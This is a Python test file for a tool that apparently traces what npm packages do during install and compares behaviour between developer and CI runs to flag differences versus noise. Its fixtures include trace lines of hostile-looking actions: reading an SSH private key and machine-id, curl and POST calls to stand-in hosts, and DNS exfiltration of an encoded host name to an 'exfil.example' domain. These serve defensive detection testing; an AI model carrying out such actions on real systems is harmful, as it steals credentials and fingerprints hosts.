# SPDX-License-Identifier: Apache-2.0
"""What differs between runs, and what of it is noise."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from compared import Traced
from fpbox.compare import Differences, differences
from fpbox.machine import Planted
from fpbox.model import Action, Importance

SLY = "pkg:npm/sly@1.0.0"
LINES = (
    "open ~/.ssh/id_ed25519", "open /etc/machine-id", "exec /usr/bin/curl curl -s http://c.invalid/x",
    "write /tmp/tmp.aX91bc", "stat ~/.bashrc", "call/uname", "dns collector.invalid", "list ~",
    "connect tcp://240.0.0.1:443", "write ~/app/node_modules/sly/built.js", "exec /usr/bin/git git fetch",
    "request https://c.invalid/x (POST c.invalid /x 12 200)", "open /proc/self/status", "sleep 300",
)  # fmt: skip
DONE = st.lists(st.tuples(st.sampled_from(LINES), st.sampled_from(("sly", "calm", "toolchain"))), max_size=12)


def traced(persona: str, done: list[tuple[str, str]], home: str) -> Traced:
    made = Traced(persona, home)
    for line, name in done:
        made.see(line, name=name)
    return made


def what(found: Differences) -> set[tuple[str, object, frozenset[str]]]:
    return {
        (purl, key, frozenset(only))
        for purl, one in found.packages.items()
        for key, only in (
            *((each.doing, each.only) for each in one.doings),
            *((each.recipe, each.only) for each in one.recipes),
        )
    }


@settings(max_examples=15)
@given(DONE)
def test_a_run_does_not_differ_from_the_same_as_somebody_else(done: list[tuple[str, str]]) -> None:
    one, other = traced("developer", done, "/home/lena"), traced("ci", done, "/home/runner")
    found = differences({"developer": one.observed, "ci": other.observed}, [one.observed])
    assert not found
    assert what(found) == set()


@settings(max_examples=15)
@given(DONE, DONE)
def test_it_does_not_matter_which_run_comes_first(
    first: list[tuple[str, str]], second: list[tuple[str, str]]
) -> None:
    one, other = traced("a", first, "/home/lena").observed, traced("b", second, "/home/runner").observed
    assert what(differences({"a": one, "b": other})) == what(differences({"b": other, "a": one}))


@settings(max_examples=15)
@given(DONE, DONE)
def test_what_differs_in_the_repeat_is_never_told(
    first: list[tuple[str, str]], second: list[tuple[str, str]]
) -> None:
    one, other = traced("a", first, "/home/lena").observed, traced("b", second, "/home/runner").observed
    assert not [
        each
        for package in differences({"a": one, "b": other}, [other]).packages.values()
        for each in (*package.doings, *package.recipes)
    ]


def test_what_is_done_as_one_only_is_told_with_who_that_is() -> None:
    one = Traced("developer").see("open ~/.npmrc").see("call/uname")
    other = Traced("ci", "/home/runner").see("open ~/.npmrc")
    found = differences({"developer": one.observed, "ci": other.observed}).packages[SLY]
    (doing,) = found.doings
    assert (doing.doing.action, doing.seen.example, doing.only) == (Action.CALL, "uname", ("developer",))


def test_an_attempt_is_the_same_whether_it_succeeds_or_not() -> None:
    one = Traced("developer").see("open ~/.ssh/id_ed25519")
    other = Traced("ci", "/home/runner").see("open ~/.ssh/id_ed25519 = missing")
    assert not differences({"developer": one.observed, "ci": other.observed})


def test_a_program_that_is_looked_for_along_the_path_is_started_once() -> None:
    one = Traced("developer").see("exec /opt/a/git git a = missing", "exec /usr/bin/git git a")
    other = Traced("ci").see("exec /usr/bin/git git a")
    found = differences({"developer": one.observed, "ci": other.observed})
    assert not [each for one in found.packages.values() for each in one.doings]


def test_the_name_that_was_invented_for_the_host_makes_no_difference() -> None:
    def as_(persona: str, host: str) -> Traced:
        made = Traced(persona, values=(Planted("host_name", host.encode(), "the host name"),))
        return made.see(
            f"dns {host.encode().hex()}.exfil.example", f"exec /usr/bin/curl curl x.invalid/{host}"
        )

    one, other = as_("developer", "kelvand-lt81723"), as_("ci", "fv-az8471-855")
    assert not differences({"developer": one.observed, "ci": other.observed})


def test_names_drawn_in_the_same_directory_are_noise_once_the_repeat_has_shown_it() -> None:
    one, again, other = (
        Traced(persona).see(f"write ~/app/out/{word}.txt", name="noisy")
        for persona, word in (("a", "apple"), ("a", "pear"), ("b", "quince"))
    )
    variants = {"a": one.observed, "b": other.observed}
    assert differences(variants)
    found = differences(variants, [again.observed])
    assert not found
    assert found.packages["pkg:npm/noisy@1.0.0"].unsteady == 2


def test_of_the_package_manager_only_programs_requests_and_hosts_are_compared() -> None:
    one = Traced("developer").see("open /etc/machine-id", "write /tmp/x", name="toolchain", phase="")
    one.see("exec /usr/bin/git git --version", name="toolchain", phase="")
    other = Traced("ci").ran("toolchain")
    found = differences({"developer": one.observed, "ci": other.observed})
    actions = [each.doing.action for one in found.packages.values() for each in one.doings]
    assert actions == [Action.EXEC]


def test_a_recipe_that_matches_in_one_variant_only_is_told_with_its_importance() -> None:
    one = Traced("developer").see("open /etc/machine-id")
    other = Traced("ci").ran("sly")
    (rose,) = differences({"developer": one.observed, "ci": other.observed}).packages[SLY].recipes
    assert rose.recipe == "machine_fingerprint"
    assert rose.levels == {"developer": Importance.HIGH, "ci": None}
    assert rose.only == ("developer",)


def test_a_recipe_that_comes_and_goes_by_itself_is_noise_and_is_named() -> None:
    one, again = Traced("developer").see("open /etc/machine-id"), Traced("developer").ran("sly")
    other = Traced("ci").ran("sly")
    found = differences({"developer": one.observed, "ci": other.observed}, [again.observed])
    assert found.packages[SLY].recipes == ()
    assert found.packages[SLY].unsteady_recipes == ("machine_fingerprint",)


def test_a_package_that_ran_as_one_only_is_told() -> None:
    one, other = Traced("developer").ran("sly").ran("calm"), Traced("ci").ran("calm")
    found = differences({"developer": one.observed, "ci": other.observed})
    assert {purl: each.idle for purl, each in found.packages.items()} == {SLY: ("ci",)}


@pytest.mark.parametrize("count", [3, 5])
def test_more_than_two_variants_stand_side_by_side(count: int) -> None:
    names = [f"v{number}" for number in range(count)]
    made = {name: Traced(name).see("call/uname" if name == "v1" else "stat /x").observed for name in names}
    only = {each.only for each in differences(made).packages[SLY].doings}
    assert only == {("v1",), tuple(name for name in names if name != "v1")}
